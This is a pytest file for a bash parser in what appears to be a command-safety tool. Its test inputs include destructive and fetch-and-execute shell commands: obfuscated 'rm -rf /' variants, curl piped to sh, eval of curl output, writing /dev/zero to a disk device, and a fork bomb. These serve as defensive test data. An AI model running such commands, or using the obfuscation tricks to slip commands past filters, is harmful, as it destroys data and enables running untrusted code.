"""The parser finds the commands bash would run, through quoting, wrappers and nesting."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from securecli_eval.shell.parse import parse_script, simple_commands


def programs(script: str) -> list[str]:
    return [c.program for c in simple_commands(script)]


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("rm -rf /", ["rm"]),
        ("/bin/rm -rf /", ["rm"]),
        ("r''m -rf /", ["rm"]),
        ('"rm" -rf /', ["rm"]),
        ("\\rm -rf /", ["rm"]),
        ("$'\\x72\\x6d' -rf /", ["rm"]),
        ("X=rm; $X -rf /", ["rm"]),
        ("a=r; b=m; ${a}${b} -rf /", ["rm"]),
        ("sudo env -i nohup nice -n 5 command rm -rf /", ["rm"]),
        ("timeout 5 stdbuf -oL rm -rf /", ["rm"]),
        ("ls | grep x && echo ok || true; pwd", ["ls", "grep", "echo", "true", "pwd"]),
        ("(cd /tmp; ls)", ["cd", "ls"]),
        ("echo $(whoami) <(date)", ["whoami", "date", "echo"]),
        ('bash -c "rm -rf /"', ["bash", "rm"]),
        ("sh -c 'eval \"rm -rf /\"'", ["sh", "eval", "rm"]),
        ("find / -name x -exec rm -rf {} \\;", ["find", "rm"]),
        ("ls | xargs rm -f", ["ls", "rm"]),
        ('sh <<< "rm -rf /"', ["sh", "rm"]),
        ("echo rm -rf /", ["echo"]),
        ("if true; then rm x; fi; for f in *; do cat $f; done", ["true", "rm", "cat"]),
        ("$(echo rm) -rf /", ["echo", "rm"]),
        ("command -v rm", ["command"]),
    ],
)
def test_resolves_the_programs_that_run(script: str, expected: list[str]) -> None:
    assert programs(script) == expected


def test_arguments_are_unquoted_and_variables_resolved() -> None:
    (cmd,) = simple_commands("D=/usr; rm -rf \"$D\"/'lib' ~/x")
    assert cmd.args == ("-rf", "/usr/lib", "~/x")


def test_wrappers_and_paths_are_recorded() -> None:
    (cmd,) = simple_commands("sudo /usr/bin/rm -f x")
    assert cmd.program == "rm" and cmd.path == "/usr/bin/rm" and cmd.wrappers == ("sudo",)


def test_pipeline_records_where_stdin_comes_from() -> None:
    commands = simple_commands("curl -s http://x | tee log | sh")
    assert [c.program for c in commands] == ["curl", "tee", "sh"]
    assert commands[2].stdin_from == (0, 1)
    assert commands[0].stdin_from == ()


def test_substitution_sources_are_recorded() -> None:
    commands = simple_commands('eval "$(curl -s http://x)"')
    evaluator = next(c for c in commands if c.program == "eval")
    assert [commands[i].program for i in evaluator.args_from] == ["curl"]


def test_supplementary_plane_text_does_not_crash_the_parser() -> None:
    # tree-sitter-bash 0.25 kills the process on this input unless it is sanitised first
    # (a crash here takes the whole pytest process down, which is the failure mode being guarded)
    for text in ("a{\U000a4c2e", "{\U000e3e2f x", "echo \ud800 {\U00100000}"):
        assert parse_script(text).commands[0].program in ("a{\ufffd", "\ufffd", "echo")


def test_redirect_after_a_list_binds_to_its_last_command() -> None:
    commands = simple_commands("true && cat /dev/zero > /dev/sda")
    assert commands[0].redirects == ()
    assert commands[1].redirects[0].target == "/dev/sda"


def test_fork_bomb_structure() -> None:
    script = parse_script(":(){ :|:& };:")
    inner = [c for c in script.commands if c.function == ":"]
    assert len(inner) == 2 and all(c.background for c in inner)
    assert ":" in script.functions


def test_broken_input_is_flagged_not_raised() -> None:
    assert parse_script('echo "unterminated').has_error
    assert not parse_script("echo fine").has_error


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_never_raises_on_arbitrary_text(text: str) -> None:
    result = parse_script(text)
    assert isinstance(result.commands, tuple)


def test_deep_nesting_stops() -> None:
    script = "rm -rf /"
    for _ in range(12):
        script = "bash -c " + repr(script).replace("\\", "\\\\")
    assert parse_script(script).commands  # walks what it can, no recursion error
